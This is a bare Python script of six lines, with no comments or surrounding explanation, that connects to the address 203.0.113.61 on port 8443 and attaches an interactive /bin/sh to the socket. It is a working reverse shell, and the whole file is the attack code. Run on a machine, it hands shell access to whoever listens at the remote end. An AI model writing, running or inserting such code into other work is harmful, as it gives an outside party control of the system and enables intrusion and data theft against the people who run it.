import socket
import subprocess

s = socket.socket()
s.connect(("203.0.113.61", 8443))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
